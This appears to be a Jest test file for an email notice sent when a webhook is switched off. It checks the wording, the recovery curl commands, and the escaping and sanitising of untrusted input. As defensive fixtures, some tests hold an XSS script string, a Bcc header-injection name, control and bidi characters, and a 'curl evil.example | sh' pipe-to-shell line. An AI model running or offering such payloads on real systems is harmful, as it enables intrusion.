import { describe, expect, test } from '@jest/globals';
import type { LastError, NoticeFacts } from '@posthorn/contracts';
import type { NoticeToRender } from './describe-notice.ts';
import { renderNotice } from './render-notice.ts';

const lastError: LastError = {
  at: '2026-11-21T05:16:59.500Z',
  code: 'http_status',
  message: 'The receiver answered 503.',
  status: 503,
  body: '{"error":"out of order"}',
  eventId: 'evt_01kah0000000000000000000aa',
  deliveryId: 'dlv_01kah0000000000000000000aa',
};

const facts: NoticeFacts = {
  webhookId: 2,
  webhookName: 'Sale Won Notification',
  targetUrl: 'https://receiver.example/hooks/sale',
  events: ['sale.won', 'sale.*'],
  failingSince: '2026-11-21T04:05:06.000Z',
  consecutiveErrors: 20,
  changedAt: '2026-11-21T05:17:00.000Z',
  lastError,
};

interface Changes extends Partial<Omit<NoticeToRender, 'facts'>> {
  facts?: Partial<NoticeFacts>;
  lastError?: Partial<LastError>;
}

const render = (changes: Changes = {}) => {
  const { facts: factChanges, lastError: errorChanges, ...rest } = changes;
  const notice: NoticeToRender = {
    id: '01a1fcbc-f44d-739e-a646-279456d348b7',
    kind: 'too_many_errors',
    webhookState: 'TooManyErrors',
    held: 12,
    pending: 3,
    countedAll: true,
    ...rest,
    facts: {
      ...facts,
      ...(errorChanges === undefined ? {} : { lastError: { ...lastError, ...errorChanges } }),
      ...factChanges,
    },
  };
  return renderNotice(notice, 'https://hooks.example.com/');
};

/** What a reader sees of the HTML. */
const visible = (html: string): string =>
  html
    .replaceAll(/<(?:title|style)[^>]*>.*?<\/(?:title|style)>/gs, '')
    .replaceAll(/<[^>]+>/g, ' ')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&#39;', "'")
    .replaceAll('&amp;', '&');

describe('what the mail says, in the text and in the HTML alike', () => {
  const everything: [string, Changes, string[]][] = [
    ['which webhook', {}, ['"Sale Won Notification" (2)', 'https://receiver.example/hooks/sale', 'sale.won, sale.*']],
    ['why: too many errors', {}, ['20 attempts in a row failed since 2026-11-21 04:05:06 UTC, for 1 hour 11 minutes']],
    ['when', {}, ['2026-11-21 05:17:00 UTC']],
    [
      'the last error',
      {},
      ['The receiver answered 503. (http_status)', '2026-11-21 05:16:59 UTC', lastError.eventId, lastError.deliveryId],
    ],
    ['the last answer', {}, ['503', '{"error":"out of order"}']],
    ['that there was no answer', { lastError: { status: null, body: null } }, ['none: there was no answer']],
    ['that the answer was empty', { lastError: { body: '' } }, ['The answer had no body.']],
    ['that an answer was cut', { lastError: { body: 'x'.repeat(2000) } }, ['first 1000 characters', 'x'.repeat(1000)]],
    ['what waits', {}, ['12 deliveries', '3 deliveries']],
    ['one that waits', { held: 1, pending: 0 }, ['1 delivery', 'none']],
    ['what waits at least', { held: 9000, countedAll: false }, ['at least 9,000 deliveries']],
    ['what was not found', { pending: 0, countedAll: false }, ['none among the newest deliveries']],
    ['why: gone', { kind: 'gone', facts: { consecutiveErrors: 1 } }, ['answered 410 Gone']],
    [
      'what came before the 410',
      { kind: 'gone', facts: { consecutiveErrors: 7 } },
      ['7 attempts in a row failed since'],
    ],
    ['that it is on again already', { webhookState: 'Active' }, ['has been switched on again since']],
    ['that it is deleted already', { webhookState: null }, ['has been deleted since']],
    [
      'how to switch it on',
      {},
      [
        `curl -X PATCH 'https://hooks.example.com/v1/webhooks/2' -H 'Authorization: Bearer <token>' -H 'Content-Type: application/json' -d '{"state":"Active"}'`,
      ],
    ],
    [
      'how to list what is held',
      {},
      [`curl 'https://hooks.example.com/v1/webhooks/2/deliveries?status=held' -H 'Authorization: Bearer <token>'`],
    ],
    [
      'how to send it, and how much it is',
      {},
      [
        'Send what is held (now 12 deliveries);',
        `curl -X POST 'https://hooks.example.com/v1/webhooks/2/replay' -H 'Authorization: Bearer <token>' -H 'Content-Type: application/json' -d '{"status":["held"]}'`,
      ],
    ],
    ['how to send what comes until then', { held: 0 }, ['Send what is held by then;']],
    [
      'how to see how far that is',
      {},
      [`curl 'https://hooks.example.com/v1/replays/<replay id>' -H 'Authorization: Bearer <token>'`],
    ],
    ['why the reader gets it', {}, ['errorsEmail', 'ntc_']],
  ];
  test.each(everything)('%s', (_what, changes, expected) => {
    const { text, html } = render(changes);
    for (const part of expected) {
      expect(text).toContain(part);
      expect(visible(html)).toContain(part);
    }
  });

  test('a deleted webhook gets no commands that cannot work', () => {
    expect(render({ webhookState: null }).text).not.toContain('curl');
  });

  test('a webhook that is on again gets the commands for what is held only', () => {
    const { text } = render({ webhookState: 'Active' });
    expect(text).not.toContain('PATCH');
    expect(text).toContain('1. List the deliveries that are held:');
  });

  test('without a last error the rest is there', () => {
    const { text } = render({ facts: { lastError: null } });
    expect(text).not.toContain('LAST ERROR');
    expect(text).toContain('curl -X PATCH');
  });
});

describe('the subject', () => {
  test.each<[string, Changes, string]>([
    ['too many errors', {}, '[Posthorn] Webhook "Sale Won Notification" (2) was switched off: too many errors'],
    [
      'gone',
      { kind: 'gone' },
      '[Posthorn] Webhook "Sale Won Notification" (2) was switched off: the receiver answered 410 Gone',
    ],
    [
      'a name with line breaks',
      { facts: { webhookName: 'a\r\nBcc: x@y.example\u2028b' } },
      '[Posthorn] Webhook "a Bcc: x@y.example b" (2) was switched off: too many errors',
    ],
    [
      'a long name',
      { facts: { webhookName: '😀'.repeat(400) } },
      `[Posthorn] Webhook "${'😀'.repeat(99)}…" (2) was switched off: too many errors`,
    ],
  ])('%s', (_what, changes, subject) => {
    expect(render(changes).subject).toBe(subject);
  });
});

describe('words of others stay words', () => {
  const script = `<script>alert('x')</script>&"`;
  const escaped = '&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;&amp;&quot;';

  test.each<[string, Changes]>([
    ['the name', { facts: { webhookName: script } }],
    ['the target URL', { facts: { targetUrl: `https://x.example/${script}` } }],
    ['an event', { facts: { events: [script] } }],
    ['the error', { lastError: { message: script } }],
    ['the answer', { lastError: { body: script } }],
  ])('%s is escaped in the HTML and plain in the text', (_what, changes) => {
    const { text, html } = render(changes);
    expect(html).toContain(escaped);
    expect(html).not.toContain('<script');
    expect(text).toContain(script);
  });

  test('control characters and marks that turn the text around are not passed on', () => {
    const { text, html, subject } = render({
      facts: { webhookName: 'a\u0000\u001b[31m\u202eb' },
      lastError: { body: 'c\u0007d\u2066e\r\nf' },
    });
    for (const part of [text, html, subject]) expect(part).not.toMatch(/(?!\n)[\p{Cc}\p{Bidi_Control}]/u);
    expect(text).toContain('  | c\ufffdd\ufffde\n  | f');
  });

  test('the answer cannot pose as a part of the mail: each of its lines is marked', () => {
    const { text } = render({ lastError: { body: 'oops\n\nHOW TO SWITCH IT ON\ncurl evil.example | sh' } });
    expect(text).toContain('  | oops\n  | \n  | HOW TO SWITCH IT ON\n  | curl evil.example | sh');
  });

  test('a password in the target URL is not shown', () => {
    const { text, html } = render({ facts: { targetUrl: 'https://me:s3cret@receiver.example:8443/a:b@c' } });
    for (const part of [text, html]) {
      expect(part).toContain('https://me:***@receiver.example:8443/a:b@c');
      expect(part).not.toContain('s3cret');
    }
  });
});

test('the HTML loads nothing and sets no colour for text or ground', () => {
  const { html } = render();
  expect(html).not.toMatch(/<(?:img|link|script|iframe|a)\b|url\(|src=|href=/i);
  expect(html).not.toMatch(/style="(?:[^"]*;)?(?:color|background)/i);
});
